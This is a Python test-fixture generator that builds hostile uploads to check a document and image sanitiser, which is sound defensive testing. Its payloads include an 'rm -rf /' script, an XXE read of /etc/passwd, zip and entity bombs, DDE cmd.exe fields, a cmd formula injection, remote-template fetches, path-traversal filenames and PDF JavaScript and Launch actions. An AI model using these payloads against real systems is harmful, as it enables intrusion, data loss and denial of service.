"""Three hundred hostile files, made here: each has a name that lies and something that must not survive."""

import io
import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

import pikepdf
from PIL import Image
from sound import OFFICE, SECRET, W, docx, image, odt, package, paragraph, pdf, photograph, relations, types, xlsx

ACTIVE = "zqactiveqz"  # the mark of what would run


@dataclass(frozen=True)
class Hostile:
    """A file as it is sent. ``refused``: True, False, or None when either is right as long as nothing survives."""

    name: str
    data: bytes
    refused: bool | None = True


_HTML = f"<html><script>alert('{ACTIVE}')</script></html>".encode()
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{ACTIVE}"><script>{ACTIVE}</script></svg>'.encode()
_NAMES = (
    "rapport.pdf",
    "../../../etc/cron.d/rapport.pdf",
    "..\\..\\rapport.docx",
    "rapport.pdf.exe",
    "rapport.html",
    "\u202efdp.exe",
    "rapport\x00.pdf",
    "a" * 300 + ".png",
    "con.pdf",
    '"><script>.png',
)


def disguised() -> Iterator[Hostile]:
    """What is none of ours under names that are: by its first bytes, it is refused."""
    bodies = {
        "html": _HTML,
        "svg": _SVG,
        "xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "b">]><a>&a;</a>',
        "exe": b"MZ\x90\x00" + b"\0" * 200 + b"PE\0\0",
        "elf": b"\x7fELF\x02\x01\x01" + b"\0" * 120,
        "sh": b"#!/bin/sh\nrm -rf /\n",
        "gif": b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + _HTML,
        "bmp": b"BM" + b"\0" * 60,
        "tiff": b"II*\x00\x08\x00\x00\x00" + b"\0" * 60,
        "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "rtf": b"{\\rtf1\\object\\objdata " + ACTIVE.encode() + b"}",
        "gzip": b"\x1f\x8b\x08" + b"\0" * 60,
        "rar": b"Rar!\x1a\x07\x00" + b"\0" * 60,
        "seven": b"7z\xbc\xaf\x27\x1c" + b"\0" * 60,
        "eps": b"%!PS-Adobe-3.0 EPSF-3.0\n" + ACTIVE.encode(),
        "hta": b"<HTA:APPLICATION>" + _HTML,
        "eml": b"From: a@b\nContent-Type: text/html\n\n" + _HTML,
        "mp4": b"\0\0\0\x20ftypisom" + b"\0" * 60,
        "class": b"\xca\xfe\xba\xbe" + b"\0" * 60,
        "empty": b"",
        "blank": b" " * 4096,
        "zeros": b"\0" * 4096,
        "late": b"\n" * 20 + b"%PDF-1.7\n" + _HTML,
        "webp": b"RIFF\x00\x00\x00\x00WAVE" + b"\0" * 60,
    }
    for number, (kind, data) in enumerate(bodies.items()):
        for turn in range(4):
            yield Hostile(f"{kind}-{_NAMES[(number + turn) % len(_NAMES)]}", data)


def polyglots() -> Iterator[Hostile]:
    """Sound at the beginning, something else after: what follows is not kept."""
    tails = {"html": _HTML, "svg": _SVG, "zip": package({"run.js": ACTIVE}), "jar": package({"A.class": ACTIVE})}
    sound = {"jpg": image(), "png": image("PNG"), "webp": image("WEBP"), "pdf": pdf(), "docx": docx(), "odt": odt()}
    for kind, data in sound.items():
        for tail, more in tails.items():
            yield Hostile(f"poly-{tail}.{kind}", data + more, None)
    for tail, more in tails.items():
        yield Hostile(f"before-{tail}.docx", more + docx(), None)


def truncated() -> Iterator[Hostile]:
    """Cut, or damaged in the middle."""
    sound = {
        "jpg": photograph(),
        "png": image("PNG", (300, 200)),
        "webp": image("WEBP", (300, 200)),
        "pdf": pdf(),
        "docx": docx(),
        "xlsx": xlsx(),
        "odt": odt(),
    }
    for kind, data in sound.items():
        for part in (3, 12, 30, 60, 90):
            yield Hostile(f"cut-{part}.{kind}", data[: len(data) * part // 100], None)
        for part in (20, 50, 80):
            at = len(data) * part // 100
            yield Hostile(f"hurt-{part}.{kind}", data[:at] + b"\xff\x00\xfe" * 8 + data[at + 24 :], None)


def _png_header(width: int, height: int, depth: int = 8, colour: int = 2) -> bytes:
    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0" * 100_000)) + chunk(b"IEND", b"")


def image_bombs() -> Iterator[Hostile]:
    """Small files that announce, or are, enormous images."""
    for width, height in (
        (9000, 9000),
        (60_000, 60_000),
        (2**31 - 1, 2**31 - 1),
        (24_000_001, 1),
        (5000, 4801),
        (0, 9),
    ):
        yield Hostile(f"bomb-{width}.png", _png_header(width, height))
        sides = struct.pack(">HH", min(height, 65_535), min(width, 65_535))
        yield Hostile(
            f"bomb-{width}.jpg",
            b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0\xff\xc0\0\x11\x08" + sides + b"\3\1\x11\0" * 4,
        )
    big = io.BytesIO()
    Image.new("1", (9000, 9000)).save(big, "PNG")
    yield Hostile("real-9000.png", big.getvalue())
    extended = b"VP8X" + struct.pack("<I", 10) + b"\0" * 4 + (16_382).to_bytes(3, "little") * 2
    yield Hostile("bomb.webp", b"RIFF" + struct.pack("<I", len(extended) + 4) + b"WEBP" + extended)
    yield Hostile("whole-24.png", image("PNG", (6000, 4000)), False)
    yield Hostile("whole-24-alpha.png", image("PNG", (6000, 4000), "RGBA"), False)
    yield Hostile("whole-24-palette.png", image("PNG", (6000, 4000), "P"), False)
    yield Hostile("whole-24-sixteen.png", image("PNG", (6000, 4000), "I;16"), False)
    yield Hostile("whole-24.jpg", image("JPEG", (6000, 4000)), False)
    yield Hostile("whole-24.webp", image("WEBP", (6000, 4000)))
    yield Hostile("whole-12.webp", image("WEBP", (4000, 3000)), False)
    yield Hostile("whole-24-progressive.jpg", image("JPEG", (6000, 4000), progressive=True), False)
    yield Hostile("whole-24-cmyk.jpg", image("JPEG", (6000, 4000), "CMYK"), False)
    text = b"zTXt" + b"k\0\0" + zlib.compress(b"a" * 50_000_000, 9)
    body = _png_header(10, 10)
    bomb = struct.pack(">I", len(text) - 4) + text + struct.pack(">I", zlib.crc32(text))
    yield Hostile("text-bomb.png", body[:33] + bomb + body[33:], None)


def metadata() -> Iterator[Hostile]:
    """Places, authors, cameras, companies: kept files hold none of it."""
    for kind in ("JPEG", "PNG", "WEBP"):
        yield Hostile(f"gps.{kind.lower()}", photograph(kind), False)
    yield Hostile("author.pdf", pdf(), False)
    yield Hostile("author.docx", docx(), False)
    yield Hostile("author.xlsx", xlsx(), False)
    yield Hostile("author.odt", odt(), False)
    comment = f'<w:comment w:id="0" w:author="{SECRET}" w:initials="{SECRET}"/>'
    comments = f'<?xml version="1.0"?><w:comments xmlns:w="{W}">{comment}</w:comments>'
    yield Hostile("comments.docx", docx({"word/comments.xml": comments}), False)
    yield Hostile("photo-inside.docx", docx({"word/media/image1.jpeg": photograph()}), False)
    yield Hostile("photo-inside.odt", odt({"Pictures/a.jpg": photograph()}), False)
    note = f"<text:p><office:annotation><dc:creator>{SECRET}</dc:creator></office:annotation></text:p>"
    yield Hostile("annotation.odt", odt(content=note), False)
    changed = paragraph(f'<w:ins w:id="1" w:author="{SECRET}"><w:r><w:t>Bonjour</w:t></w:r></w:ins>')
    yield Hostile("changes.docx", docx({"word/document.xml": changed}), False)

    def with_photo(document: pikepdf.Pdf) -> None:
        picture = pikepdf.Stream(document, photograph())
        picture.Type, picture.Subtype, picture.Filter = pikepdf.Name.XObject, pikepdf.Name.Image, pikepdf.Name.DCTDecode
        picture.Width, picture.Height, picture.BitsPerComponent = 64, 48, 8
        picture.ColorSpace = pikepdf.Name.DeviceRGB
        document.pages[0].Resources = pikepdf.Dictionary(
            XObject=pikepdf.Dictionary(Im0=document.make_indirect(picture))
        )

    yield Hostile("photo-inside.pdf", pdf(with_photo), False)


def bombs() -> Iterator[Hostile]:
    """Zips and XML that grow without end."""
    zeros = b"\0" * 30_000_000
    for inside in ("word/document.xml", "word/media/image1.png", "word/styles.xml"):
        yield Hostile(f"zip-bomb-{inside.replace('/', '-')}.docx", docx({inside: zeros}))
    yield Hostile("zip-bomb.odt", odt({"Pictures/a.png": zeros}))
    yield Hostile("zip-bomb.xlsx", xlsx({"xl/media/a.png": zeros}))
    yield Hostile("many.docx", docx({f"word/part{number}.xml": "<a/>" for number in range(2_500)}))
    yield Hostile("sum.docx", docx({f"word/media/{n}.png": zeros[:9_000_000] for n in range(12)}))
    laughs = (
        "<!DOCTYPE a [<!ENTITY a0 'ha'>"
        + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
        + "]>"
    )
    outside = "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"
    for kind, head in (("laughs", laughs), ("outside", outside), ("plain", "<!DOCTYPE a>")):
        yield Hostile(f"{kind}.docx", docx({"word/document.xml": paragraph(head=head)}))
        yield Hostile(f"{kind}-styles.docx", docx({"word/styles.xml": f'<?xml version="1.0"?>{head}<a/>'}))
        yield Hostile(f"{kind}-rels.docx", docx({"word/_rels/document.xml.rels": f'<?xml version="1.0"?>{head}<a/>'}))
        yield Hostile(f"{kind}-types.docx", docx({"[Content_Types].xml": f'<?xml version="1.0"?>{head}<a/>'}))
        yield Hostile(f"{kind}.odt", odt({"styles.xml": f'<?xml version="1.0"?>{head}<a/>'}))
        yield Hostile(f"{kind}.xlsx", xlsx({"xl/styles.xml": f'<?xml version="1.0"?>{head}<a/>'}))
        utf16 = f'<?xml version="1.0" encoding="UTF-16"?>{head}<a/>'.encode("utf-16")
        yield Hostile(f"{kind}-utf16.docx", docx({"word/styles.xml": utf16}))
    deep = "<a>" * 100_000 + "</a>" * 100_000
    yield Hostile("deep.docx", docx({"word/styles.xml": f'<?xml version="1.0"?>{deep}'}), None)


def macros() -> Iterator[Hostile]:
    """Office documents that run something, carry a file, or fetch one."""
    yield Hostile("macro.docx", docx({"word/vbaProject.bin": ACTIVE}))
    yield Hostile("macro-data.docx", docx({"word/vbaData.xml": "<a/>"}))
    yield Hostile("macro.xlsx", xlsx({"xl/vbaProject.bin": ACTIVE}))
    yield Hostile("sheet-macro.xlsx", xlsx({"xl/macrosheets/sheet1.xml": "<a/>"}))
    enabled = types("application/vnd.ms-word.document.macroEnabled.main+xml")
    yield Hostile("enabled.docx", docx({"[Content_Types].xml": enabled}))
    both = types(more='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>')
    yield Hostile("declared.docx", docx({"[Content_Types].xml": both}))
    yield Hostile("activex.docx", docx({"word/activeX/activeX1.xml": "<a/>"}))
    yield Hostile("ole.docx", docx({"word/embeddings/oleObject1.bin": ACTIVE}))
    yield Hostile("ole.xlsx", xlsx({"xl/embeddings/oleObject1.bin": ACTIVE}))
    yield Hostile("inside.docx", docx({"word/embeddings/classeur.xlsx": xlsx()}))
    yield Hostile("ribbon.docx", docx({"customUI/customUI14.xml": "<a/>"}))
    yield Hostile("program.docx", docx({"word/run.exe": b"MZ" + ACTIVE.encode()}))
    yield Hostile("page.docx", docx({"word/afchunk.html": _HTML}))
    yield Hostile("script.docx", docx({"word/run.js": ACTIVE}))
    yield Hostile("not-a-picture.docx", docx({"word/media/image1.png": _HTML}))
    yield Hostile("svg-inside.docx", docx({"word/media/image1.svg": _SVG}))
    for kind in ("image", "oleObject", "frame", "subDocument", "video", "externalLinkPath", "aFChunk", "package"):
        part = relations((f"{OFFICE}/{kind}", "http://198.51.100.7/a", True))
        yield Hostile(f"fetch-{kind}.docx", docx({"word/_rels/document.xml.rels": part}))
        yield Hostile(f"share-{kind}.docx", docx({"word/_rels/document.xml.rels": part.replace("http:", "file:")}))
    template = relations((f"{OFFICE}/attachedTemplate", f"http://198.51.100.7/{ACTIVE}.dotm", True))
    yield Hostile("template.docx", docx({"word/_rels/settings.xml.rels": template}), False)
    link = relations((f"{OFFICE}/hyperlink", f"javascript:{ACTIVE}", True))
    yield Hostile("link.docx", docx({"word/_rels/document.xml.rels": link}), False)
    for code in ("DDEAUTO c:\\\\cmd.exe", "DDE excel", "INCLUDEPICTURE http://198.51.100.7/a", "INCLUDETEXT http://a"):
        field = f"<w:r><w:instrText>{code}</w:instrText></w:r>"
        yield Hostile(f"field-{code[:6]}.docx", docx({"word/document.xml": paragraph(field)}))
        simple = f'<w:fldSimple w:instr="{code}"/>'
        yield Hostile(f"simple-{code[:6]}.docx", docx({"word/document.xml": paragraph(simple)}))
    split = "<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd</w:instrText></w:r>"
    yield Hostile("field-split.docx", docx({"word/document.xml": paragraph(split)}))
    yield Hostile("links.xlsx", xlsx({"xl/externalLinks/externalLink1.xml": "<a/>"}))
    yield Hostile("connections.xlsx", xlsx({"xl/connections.xml": "<a/>"}))
    cell = '<sheetData><row r="1"><c r="A1"><f>{}</f></c></row></sheetData>'
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    sheet = f'<worksheet xmlns="{space}">{cell}</worksheet>'
    for formula in ("cmd|'/c calc'!A0", "WEBSERVICE(&quot;http://198.51.100.7&quot;)", "CALL(&quot;a&quot;)"):
        yield Hostile(f"formula-{formula[:4]}.xlsx", xlsx({"xl/worksheets/sheet1.xml": sheet.format(formula)}))
    yield Hostile("basic.odt", odt({"Basic/Standard/Module1.xml": f"<a>{ACTIVE}</a>"}))
    yield Hostile("scripts.odt", odt({"Scripts/python/a.py": ACTIVE}))
    yield Hostile("object.odt", odt({"Object 1/content.xml": "<a/>"}))
    yield Hostile("unknown.odt", odt({"run.exe": b"MZ"}))
    for body in (
        '<draw:image xlink:href="http://198.51.100.7/a.png"/>',
        '<draw:image xlink:href="file:///etc/passwd"/>',
        '<draw:image xlink:href="../../a.png"/>',
        '<draw:object xlink:href="./Object 1"/>',
        '<draw:floating-frame xlink:href="http://198.51.100.7"/>',
        '<draw:plugin xlink:href="a"/>',
        '<script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.script:a"/>',
        '<text:a xlink:href="javascript:alert(1)">a</text:a>',
        '<text:section-source xlink:href="http://198.51.100.7/a.odt"/>',
    ):
        yield Hostile(f"body-{len(body)}.odt", odt(content=f"<text:p>{body}</text:p>"))
    for name in (
        "../../outside.xml",
        "/etc/passwd.xml",
        "word\\..\\a.xml",
        "C:/a.xml",
        "word/../../a.xml",
        "a\x01.xml",
    ):
        yield Hostile(f"path-{len(name)}.docx", docx({name: "<a/>"}))
        yield Hostile(f"path-{len(name)}.odt", odt({name: "<a/>"}))
    yield Hostile("twice.docx", docx({"WORD/DOCUMENT.XML": paragraph()}))
    yield Hostile("nothing.docx", docx(without=("word/document.xml",)))
    yield Hostile("no-types.docx", docx(without=("[Content_Types].xml",)))
    yield Hostile("no-rels.docx", docx(without=("_rels/.rels",)))
    yield Hostile("kind.odt", odt({"mimetype": "application/vnd.oasis.opendocument.text-template"}))
    yield Hostile("any.docx", package({"a.txt": ACTIVE}))
    yield Hostile("program.apk.docx", package({"AndroidManifest.xml": ACTIVE, "classes.dex": ACTIVE}))


def _pdf_changes() -> Iterator[tuple[str, object]]:
    new, name = pikepdf.Dictionary, pikepdf.Name

    def script() -> pikepdf.Dictionary:
        return new(S=name.JavaScript, JS=pikepdf.String(f"app.alert('{ACTIVE}')"))

    def opens(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = script()

    def opens_apart(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = document.make_indirect(script())

    def named(document: pikepdf.Pdf) -> None:
        document.Root.Names = new(JavaScript=new(Names=pikepdf.Array([pikepdf.String("a"), script()])))

    def on_page(document: pikepdf.Pdf) -> None:
        document.pages[0].obj.AA = new(O=script())

    def link(action: pikepdf.Dictionary) -> object:
        def change(document: pikepdf.Pdf) -> None:
            note = new(Type=name.Annot, Subtype=name.Link, Rect=pikepdf.Array([0, 0, 9, 9]), A=action)
            document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(note)])

        return change

    def chained(document: pikepdf.Pdf) -> None:
        action = new(S=name.URI, URI=pikepdf.String("https://ville.example"), Next=document.make_indirect(script()))
        link(action)(document)  # type: ignore[operator]  # pikepdf’s own

    def attached(document: pikepdf.Pdf) -> None:
        document.attachments["run.exe"] = ACTIVE.encode()

    def pinned(document: pikepdf.Pdf) -> None:
        stream = pikepdf.Stream(document, ACTIVE.encode())
        note = new(Type=name.Annot, Subtype=name.FileAttachment, Rect=pikepdf.Array([0, 0, 9, 9]))
        note.FS = new(Type=name.Filespec, F=pikepdf.String("a.exe"), EF=new(F=document.make_indirect(stream)))
        document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(note)])

    def form(document: pikepdf.Pdf) -> None:
        stream = pikepdf.Stream(document, f"<xdp><script>{ACTIVE}</script></xdp>".encode())
        document.Root.AcroForm = new(Fields=pikepdf.Array([]), XFA=document.make_indirect(stream))

    def field(document: pikepdf.Pdf) -> None:
        widget = new(Type=name.Annot, Subtype=name.Widget, Rect=pikepdf.Array([0, 0, 9, 9]), FT=name.Tx)
        widget.AA = new(K=script())
        widget.T = pikepdf.String("champ")
        document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(widget)])
        document.Root.AcroForm = new(Fields=document.pages[0].obj.Annots)

    def outside(document: pikepdf.Pdf) -> None:
        stream = pikepdf.Stream(document, b"q Q")
        stream.F = pikepdf.String(f"http://198.51.100.7/{ACTIVE}")
        document.pages[0].obj.Contents = document.make_indirect(stream)

    def private(document: pikepdf.Pdf) -> None:
        document.pages[0].obj.PieceInfo = new(Illustrator=new(Private=pikepdf.String(SECRET)))
        document.pages[0].obj.Metadata = document.make_stream(f"<x>{SECRET}</x>".encode())

    def signed(document: pikepdf.Pdf) -> None:
        note = new(Type=name.Annot, Subtype=name.Text, Rect=pikepdf.Array([0, 0, 9, 9]), T=pikepdf.String(SECRET))
        document.pages[0].obj.Annots = pikepdf.Array([note])

    yield "opens", opens
    yield "opens-apart", opens_apart
    yield "named", named
    yield "page", on_page
    yield "script-link", link(script())
    yield "launch", link(new(S=name.Launch, F=pikepdf.String(f"{ACTIVE}.exe")))
    yield "submit", link(new(S=name.SubmitForm, F=pikepdf.String(f"http://198.51.100.7/{ACTIVE}")))
    yield "remote", link(new(S=name.GoToR, F=pikepdf.String(f"\\\\198.51.100.7\\{ACTIVE}")))
    yield "uri-script", link(new(S=name.URI, URI=pikepdf.String(f"javascript:{ACTIVE}")))
    yield "uri-file", link(new(S=name.URI, URI=pikepdf.String(f"file:///{ACTIVE}")))
    yield "chained", chained
    yield "attached", attached
    yield "pinned", pinned
    yield "form", form
    yield "field", field
    yield "outside", outside
    yield "private", private
    yield "signed", signed


def programs() -> Iterator[Hostile]:
    """PDFs that run, carry, launch or call: kept without it, or refused."""
    for what, change in _pdf_changes():
        for how, options in (
            ("plain", {"compress_streams": False}),
            ("packed", {"object_stream_mode": pikepdf.ObjectStreamMode.generate}),
        ):
            yield Hostile(f"{what}-{how}.pdf", pdf(change, **options), False)
    locked = pdf(encryption=pikepdf.Encryption(owner="a", user="b"))
    yield Hostile("locked.pdf", locked)
    yield Hostile("no-page.pdf", b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>")
    root = b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    loop = b"2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\ntrailer<</Root 1 0 R>>"
    yield Hostile("loop.pdf", root + loop)
    yield Hostile(
        "nested.pdf", b"%PDF-1.7\n1 0 obj" + b"[" * 100_000 + b"]" * 100_000 + b"endobj\ntrailer<</Root 1 0 R>>"
    )


def heavy() -> Iterator[Hostile]:
    """More than ten megabytes."""
    yield Hostile("heavy.pdf", pdf() + b"\n%" + b"a" * (10 * 1024 * 1024))
    yield Hostile("heavy.jpg", image() + b"\0" * (10 * 1024 * 1024))


def every() -> Iterator[Hostile]:
    """All of them."""
    for make in (disguised, polyglots, truncated, image_bombs, metadata, bombs, macros, programs, heavy):
        yield from make()
